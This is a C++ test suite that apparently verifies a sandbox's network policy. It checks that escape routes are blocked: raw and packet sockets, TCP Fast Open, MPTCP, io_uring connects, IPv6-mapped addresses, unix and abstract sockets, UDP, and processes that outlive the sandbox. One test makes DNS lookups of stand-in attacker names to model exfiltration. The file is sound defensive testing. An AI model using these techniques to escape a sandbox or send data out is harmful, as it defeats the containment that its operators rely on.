// Ways past a network policy that are the kernel's: kinds of sockets, calls that connect, servers, other families. Each
// is tried where everything outside answers, so that what does not get there was stopped on its way.
//
// Of the rows that this follows, one has no test: a sandbox that denies the network and is given channels to its host.
// There are no such channels.
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cctype>
#include <filesystem>
#include <system_error>

#include "network_rows.h"
#include "tree.h"

namespace leash::guarantees {
namespace {

constexpr int kReached = 0;
constexpr int kRefused = 10;

TEST_P(NetworkRows, N1ConnectionsThatNoRuleAllowsAreRefusedAndTold) {
  const std::string acts = "do('denied', get, '198.51.100.7', 8443); do('allowed', get, 'good.test', 8443)";
  EXPECT_EQ(Control("do('denied', get, '198.51.100.7', 8443)")["denied"], "200 reached 198.51.100.7");
  outside_->Forget();
  Outcomes inside = Inside(Listed({"good.test"}), acts);
  EXPECT_EQ(inside["denied"], "ConnectionResetError");
  EXPECT_EQ(inside["allowed"], std::string("200 reached ") + kAllowed);
  EXPECT_TRUE(outside_->NeverSaw("198.51.100.7"));
  EXPECT_TRUE(Logged("198.51.100.7", 8443, "deny", "denied"));
  EXPECT_TRUE(Logged("good.test", 8443, "allow", "done"));
}

TEST_P(NetworkRows, N2EveryPortIsJudged) {
  std::string acts;
  for (const char* port : {"22", "5432", "8080"}) {
    acts += std::string("do('other ") + port + "', get, '" + kOther + "', " + port + ")\n";
    acts += std::string("do('good ") + port + "', get, 'good.test', " + port + ")\n";
  }
  Outcomes inside = Inside(Listed({"good.test"}), acts);
  EXPECT_TRUE(outside_->NeverSaw(kOther));
  for (const int port : {22, 5432, 8080}) {
    const std::string text = std::to_string(port);
    EXPECT_EQ(inside["other " + text], "ConnectionResetError");
    EXPECT_EQ(inside["good " + text], std::string("200 reached ") + kAllowed);
    EXPECT_TRUE(Logged(kOther, port, "deny"));
    EXPECT_EQ(Control(std::string("do('other', get, '") + kOther + "', " + text + ")")["other"],
              std::string("200 reached ") + kOther);
  }
}

// Marks are for rules of a packet filter; inside, they take a capability that nobody has.
TEST_P(NetworkRows, N3NoSocketIsMarked) {
  const std::string mark =
      "do('mark', lambda: socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x2000))\n";
  if (world().who() == Who::kRoot) {
    EXPECT_EQ(Control(mark)["mark"], "None");
  }
  Outcomes inside = Inside(Listed({"good.test"}), mark + "do('good', get, 'good.test')");
  EXPECT_EQ(inside["mark"], "PermissionError");
  EXPECT_EQ(inside["good"], std::string("200 reached ") + kAllowed);
}

TEST_P(NetworkRows, N4NoPacketOrRawSocketIsMade) {
  for (const char* act : {"packet-socket", "raw-socket", "raw6-socket", "ping-socket"}) {
    if (world().who() == Who::kRoot && std::string(act) != "ping-socket") {
      EXPECT_EQ(ControlProbe({act}), kReached);
    }
    EXPECT_EQ(InsideProbe(Everything(), {act}), kRefused) << act;
  }
  EXPECT_EQ(InsideProbe(Everything(), {"tcp-connect", kAllowed, "80"}), kReached);
}

// A connection that a message makes is refused; one that is made early by connect(2) is judged like any other.
TEST_P(NetworkRows, W1N13FastOpenIsNoWayAroundTheVerdict) {
  const std::vector<std::string> list = Listed({kAllowed});
  for (const char* act : {"tfo-sendto", "tfo-sendmsg", "tfo-sendmmsg"}) {
    SCOPED_TRACE(act);
    EXPECT_EQ(ControlProbe({act, kOther, "80"}), kReached);
    EXPECT_TRUE(outside_->Saw(std::string("data ") + kOther)) << "control";
    outside_->Forget();
    EXPECT_EQ(InsideProbe(list, {act, kOther, "80"}), kRefused);
    EXPECT_EQ(InsideProbe(list, {act, kAllowed, "80"}), kRefused);
    EXPECT_TRUE(outside_->NeverSaw("tcp "));
  }
  const std::string acts = "do('other', get_early, '93.184.216.66')\ndo('allowed', get_early, '93.184.216.34')";
  EXPECT_EQ(Control(acts)["other"], std::string("200 reached ") + kOther);
  outside_->Forget();
  Outcomes inside = Inside(list, acts);
  EXPECT_EQ(inside["other"], "403 denied");
  EXPECT_EQ(inside["allowed"], std::string("200 reached ") + kAllowed);
  EXPECT_TRUE(outside_->NeverSaw(kOther));
  EXPECT_TRUE(Logged(kOther, 80, "deny", "denied"));
  EXPECT_TRUE(Logged(kAllowed, 80, "allow", "done"));
}

TEST_P(NetworkRows, W2NoSocketOfMptcpIsMade) {
  const std::vector<std::string> list = Listed({kAllowed});
  const bool applies = ControlProbe({"mptcp-connect", kOther, "80"}) == kReached;
  if (applies) {
    EXPECT_TRUE(outside_->Saw(std::string("data ") + kOther)) << "control";
  }
  outside_->Forget();
  EXPECT_EQ(InsideProbe(list, {"mptcp-connect", kOther, "80"}), kRefused);
  EXPECT_EQ(InsideProbe(list, {"mptcp-connect", kAllowed, "80"}), kRefused);
  EXPECT_TRUE(outside_->NeverSaw("tcp "));
  EXPECT_EQ(Inside(list, "do('tcp', get, '93.184.216.34')")["tcp"], std::string("200 reached ") + kAllowed);
}

// Neither a port that a rule has nor the one that the proxy listens on opens other addresses.
TEST_P(NetworkRows, W3APortAloneOpensNothing) {
  const std::string acts =
      "for host, port in (('93.184.216.34', 80), ('93.184.216.66', 80), ('93.184.216.66', 3128), ('127.0.0.2', 80),\n"
      "                   ('127.0.0.2', 3128)):\n"
      "  do(f'{host} {port}', get, host, port)";
  for (const auto& [what, outcome] : Control(acts)) EXPECT_EQ(outcome.rfind("200 reached", 0), 0U) << what;
  outside_->Forget();
  Outcomes inside = Inside(Listed({std::string(kAllowed) + ":80"}), acts);
  EXPECT_EQ(inside["93.184.216.34 80"], std::string("200 reached ") + kAllowed);
  EXPECT_EQ(inside["93.184.216.66 80"], "403 denied");
  EXPECT_EQ(inside["93.184.216.66 3128"], "ConnectionResetError");
  EXPECT_EQ(inside["127.0.0.2 80"], "ConnectionRefusedError");
  EXPECT_EQ(inside["127.0.0.2 3128"], "ConnectionRefusedError");
  EXPECT_TRUE(outside_->NeverSaw(kOther));
  EXPECT_TRUE(outside_->NeverSaw("127.0.0.2:"));
}

// A server inside is for the programs of its sandbox.
TEST_P(NetworkRows, W4N20NobodyOutsideReachesAServerInside) {
  const std::string serve =
      "server = socket.create_server(('0.0.0.0', 40123))\n"
      "do('itself', lambda: socket.create_connection(('127.0.0.1', 40123)).close())\n"
      "print('listening', flush=True)\n"
      "sys.stdin.read()";
  const std::string call = "do('call', lambda: socket.create_connection(('127.0.0.1', 40123), timeout=20).close())";
  Start inside = InsideStart(Everything(), serve);
  Start control = inside;
  control.argv.erase(control.argv.begin(), control.argv.end() - 3);  // python, -c, the program
  for (const bool in_sandbox : {false, true}) {
    Background server(in_sandbox ? inside : control);
    EXPECT_EQ(ReadLine(server.output()), "itself: None");
    ASSERT_EQ(ReadLine(server.output()), "listening");
    EXPECT_EQ(Control(call)["call"], in_sandbox ? "ConnectionRefusedError" : "None");
  }
}

struct SaysThatItDenies {
  static constexpr bool kDeniesAll = true;
  Verdict Check(const NetworkRequest& request) const { return (void)request, Verdict::kAllow; }
};

// What decides is that a policy says so, not which type it is.
TEST_P(NetworkRows, W5W9APolicyThatDeniesAllHasNoSocketAndNoProxy) {
  const std::string acts =
      "do('socket', lambda: socket.socket().close())\ndo('proxy', get_by_proxy, 'http://good.test/')";
  for (Outcomes inside :
       {InLibrary(SaysThatItDenies(), acts), InLibrary(DenyAll() && AllowAll(), acts), InLibrary(DenyAll(), acts)}) {
    EXPECT_EQ(inside["socket"], "PermissionError");
    EXPECT_EQ(inside["proxy"], "PermissionError");
  }
  EXPECT_TRUE(outside_->NeverSaw("good.test"));
  Outcomes contrast = InLibrary(AllowAll(), acts);
  EXPECT_EQ(contrast["socket"], "None");
  EXPECT_EQ(contrast["proxy"], std::string("200 reached ") + kAllowed);
}

TEST_P(NetworkRows, W6IoUringMakesNoConnection) {
  const bool applies = ControlProbe({"io-uring-connect", kOther, "80"}) == kReached;
  if (applies) {
    EXPECT_TRUE(outside_->Saw(std::string("tcp ") + kOther)) << "control";
  }
  outside_->Forget();
  for (const char* tier : {"default", "permissive"}) {
    EXPECT_EQ(InsideProbe({"--isolation", tier, "--network", "deny"}, {"io-uring-connect", kOther, "80"}), kRefused);
    EXPECT_EQ(InsideProbe({"--isolation", tier, "--network", "allow"}, {"io-uring-connect", kOther, "80"}), kRefused);
  }
  EXPECT_TRUE(outside_->NeverSaw("tcp "));
  EXPECT_EQ(Inside({"--isolation", "permissive", "--network", "allow"}, "do('tcp', get, '93.184.216.66')")["tcp"],
            std::string("200 reached ") + kOther);
}

// 2 and 10 are IP's; 16 is netlink, to read the sandbox's own routes.
TEST_P(NetworkRows, W7NoOtherFamilyOpens) {
  const std::string acts = R"(
def families():
  found = set()
  for family in range(50):
    for kind in range(1, 6):
      try: socket.socket(family, kind, 0).close()
      except OSError: continue
      found.add(family)
  return sorted(found)
def protocols():
  found = []
  for protocol in range(1, 23):
    try: socket.socket(16, 3, protocol).close()
    except OSError: continue
    found.append(protocol)
  return found
do('families', families)
do('netlink', protocols)
do('local', lambda: 1 in families()))";
  Outcomes control = Control(acts);
  EXPECT_EQ(control["local"], "True");
  EXPECT_NE(control["netlink"], "[]");
  Outcomes inside = Inside(Everything(), acts);
  EXPECT_EQ(inside["families"], HasIpv6() ? "[2, 10, 16]" : "[2, 16]");
  EXPECT_EQ(inside["netlink"], "[]");
}

// Whoever looks names up for others, or connects for others, does it by a local socket: of a path or an abstract name.
TEST_P(NetworkRows, W8N15NoLocalServerIsReached) {
  // Beside the victim: abstract names are of a network namespace, here of the host's.
  const auto run = [&](const std::vector<std::string>& act, bool inside) {
    std::vector<std::string> argv = {world().probe()};
    for (const std::string& word : act) argv.push_back(world().Expand(word));
    if (!inside) return world().Outside(argv).code;
    std::vector<std::string> flags = Everything();
    flags.insert(flags.end(), {"--namespaces", "require", "--executable", world().root() + "/bin"});
    return world().Inside(flags, argv).code;
  };
  world().StartVictim();
  for (const std::vector<std::string>& act : {std::vector<std::string>{"unix-stream-connect", "{stream}"},
                                              {"unix-stream-connect", "{abstract}"},
                                              {"unix-dgram-sendto", "{dgram}"}}) {
    std::string before = world().VictimReport();
    EXPECT_EQ(run(act, false), kReached) << act[1];
    EXPECT_NE(world().VictimReport(), before) << "control: " << act[1];
    before = world().VictimReport();
    EXPECT_EQ(run(act, true), kRefused) << act[1];
    EXPECT_EQ(world().VictimReport(), before) << act[1];
  }
  EXPECT_EQ(run({"vsock-socket"}, true), kRefused);
  EXPECT_EQ(run({"netlink-socket", "15"}, true), kRefused);
  EXPECT_EQ(InsideProbe(Everything(), {"tcp-connect", kAllowed, "80"}), kReached);
}

TEST_P(NetworkRows, N10IPv6IsJudgedLikeIPv4) {
  if (!HasIpv6()) GTEST_SKIP() << "no IPv6 here";
  const std::string acts =
      "for host in ('2001:db8::7', '2606:4700::7', '2606:4700::8', '::1', '::ffff:198.51.100.7',\n"
      "             '::ffff:93.184.216.34'):\n"
      "  do(host, get, host, 8443, f'[{host}]:8443')";
  for (const auto& [what, outcome] : Control(acts)) EXPECT_EQ(outcome.rfind("200 reached", 0), 0U) << what << outcome;
  outside_->Forget();
  Outcomes inside = Inside(Listed({"2606:4700::7", kAllowed}), acts);
  EXPECT_EQ(inside["2606:4700::7"], "200 reached 2606:4700::7");
  EXPECT_EQ(inside["2606:4700::8"], "ConnectionResetError");
  EXPECT_EQ(inside["2001:db8::7"], "ConnectionResetError");
  EXPECT_EQ(inside["::1"], "ConnectionRefusedError");
  EXPECT_EQ(inside["::ffff:198.51.100.7"], "ConnectionResetError");
  EXPECT_EQ(inside["::ffff:93.184.216.34"], std::string("200 reached ") + kAllowed);
  EXPECT_TRUE(Logged("2001:db8::7", 8443, "deny"));
  EXPECT_TRUE(Logged("198.51.100.7", 8443, "deny"));
  for (const char* address : {"2606:4700::8", "2001:db8::7", "198.51.100.7"}) EXPECT_TRUE(outside_->NeverSaw(address));
}

// A question is a message to whoever answers for that name: none leaves for a name that is not allowed, nor of a kind
// that is not needed to connect.
TEST_P(NetworkRows, N11QuestionsAboutOtherNamesStayInside) {
  const std::string acts =
      "do('libc', resolve, 'data.attacker.test')\n"
      "do('dig', ask, '127.0.0.1', 'more.attacker.test')\n"
      "do('elsewhere', ask, '8.8.8.8', 'secret.attacker.test')\n"
      "do('text', ask, '8.8.8.8', 'good.test', 16)\n"
      "do('good', resolve, 'good.test')\n"
      "do('good again', ask, '8.8.8.8', 'good.test')\n"
      "do('get', get, 'good.test')";
  EXPECT_EQ(Control("do('dig', ask, '127.0.0.1', 'more.attacker.test')")["dig"], "code 0");
  EXPECT_TRUE(outside_->Saw("dns more.attacker.test")) << "control";
  outside_->Forget();
  Outcomes inside = Inside(Listed({"good.test"}), acts);
  EXPECT_EQ(inside["libc"], "gaierror");
  for (const char* refused : {"dig", "elsewhere", "text"}) EXPECT_EQ(inside[refused], "code 5") << refused;
  EXPECT_EQ(inside["good"], "answered");
  EXPECT_EQ(inside["good again"], "code 0");
  EXPECT_EQ(inside["get"], std::string("200 reached ") + kAllowed);
  EXPECT_TRUE(outside_->NeverSaw("attacker.test"));
  EXPECT_TRUE(outside_->NeverSaw("dns good.test 16"));
  for (const char* name : {"data.attacker.test", "more.attacker.test", "secret.attacker.test"}) {
    EXPECT_TRUE(Logged(name, 0, "deny", "denied")) << name;
  }
}

// Whatever is allowed: what is not TCP goes nowhere, so one verdict stands for every datagram of every call.
TEST_P(NetworkRows, N12N14NoDatagramLeaves) {
  const std::string acts = "for port in (443, 8443):\n  do(f'udp {port}', datagram, '93.184.216.34', port)";
  for (const auto& [what, outcome] : Control(acts)) EXPECT_EQ(outcome, "answer") << what;
  EXPECT_EQ(ControlProbe({"udp-sendmmsg", kAllowed, "443"}), kReached);
  EXPECT_TRUE(outside_->Saw("udp 443", 3)) << "control: all, so that none is taken for a later one";
  EXPECT_TRUE(outside_->Saw("udp 8443")) << "control";
  outside_->Forget();
  for (const auto& [what, outcome] : Inside(Everything(), acts)) EXPECT_EQ(outcome, "ConnectionRefusedError") << what;
  EXPECT_EQ(InsideProbe(Everything(), {"udp-sendmmsg", kAllowed, "443"}), kRefused);
  EXPECT_TRUE(outside_->NeverSaw("udp "));
}

// In the outside network there is no listener that was not there before, and a sandbox beside has a proxy of its own.
TEST_P(NetworkRows, W11NobodyElseUsesTheProxy) {
  const std::string listeners = R"(
def listeners():
  found = set()
  for name in ('tcp', 'tcp6'):
    if not os.path.exists('/proc/self/net/' + name): continue
    for line in open('/proc/self/net/' + name).readlines()[1:]:
      if line.split()[3] == '0A': found.add(line.split()[1])
  return sorted(found)
do('listeners', listeners))";
  const std::string before = Control(listeners)["listeners"];
  EXPECT_NE(before.find(":0050"), std::string::npos) << "control: port 80 is listened on";
  const std::string act = "do('by proxy', get_by_proxy, 'http://good.test/')\n";
  Background one(InsideStart(Listed({"good.test"}), act + "sys.stdin.read()"));
  ASSERT_EQ(ReadLine(one.output()), std::string("by proxy: 200 reached ") + kAllowed);
  EXPECT_EQ(Control(listeners)["listeners"], before);
  EXPECT_EQ(Inside(Listed({"other.test"}), act)["by proxy"], "403 denied");
}

// Without namespaces of networks there is no sandbox with a policy, and not one with the network of the host.
TEST_P(NetworkRows, N18WhatCannotBeSetUpDoesNotRun) {
  const auto run = [&](const std::string& first) {
    Start start = InsideStart(Everything(), "do('ran', lambda: 1)");
    const std::vector<std::string> leash = start.argv;
    start.argv = {"/usr/bin/unshare", "--user", "--map-root-user", "/bin/sh", "-c", first + "exec \"$0\" \"$@\""};
    start.argv.insert(start.argv.end(), leash.begin(), leash.end());
    return RunProgram(start);
  };
  const Result control = run("");
  EXPECT_EQ(control.output, "ran: 1\n") << control.Describe();
  const Result broken = run("echo 0 > /proc/sys/user/max_net_namespaces && ");
  EXPECT_EQ(broken.code, 125) << broken.Describe();
  EXPECT_EQ(broken.output, "");
}

// A number that no other process has among its arguments.
std::string Mark() { return "leash-transfer-" + std::to_string(getpid()); }

bool SomebodyBears(const std::string& mark) {
  namespace fs = std::filesystem;
  std::error_code ignored;
  for (const auto& entry : fs::directory_iterator("/proc", ignored)) {
    const std::string name = entry.path().filename().string();
    if (std::isdigit(static_cast<unsigned char>(name[0])) == 0) continue;
    const std::string arguments = ReadWholeFile(entry.path().string() + "/cmdline");
    if (arguments.ends_with(std::string(1, '\0') + mark + std::string(1, '\0'))) return true;
  }
  return false;
}

// A program that has left its session and its parents sends without end. It depends on leash for every byte, and ends
// with it too.
TEST_P(NetworkRows, N19NothingTalksWhenLeashIsKilled) {
  const std::string mark = Mark();
  const std::string acts = R"(
if os.fork(): sys.stdin.read(); sys.exit()
os.setsid()
if os.fork(): os._exit(0)
os.execv('/usr/bin/python3', ['python3', '-c', '''
import socket, time
stream = socket.create_connection(("good.test", 8080))
stream.sendall(b"stream")
while True:
  stream.sendall(b"x" * 1000)
  time.sleep(0.01)
''', ')" + mark + "'])";
  Background leash(InsideStart(Listed({"good.test"}), acts));
  ASSERT_TRUE(outside_->Saw("more; more; more"));
  EXPECT_TRUE(SomebodyBears(mark)) << "control";
  kill(leash.pid(), SIGKILL);
  EXPECT_EQ(leash.Wait(std::chrono::seconds(10)).code, 128 + SIGKILL);
  EXPECT_TRUE(outside_->Saw("stream ended"));
  outside_->Forget();
  for (int i = 0; i < 100 && SomebodyBears(mark); ++i) usleep(50000);
  EXPECT_FALSE(SomebodyBears(mark));
  EXPECT_TRUE(outside_->NeverSaw("more"));
}

}  // namespace
}  // namespace leash::guarantees
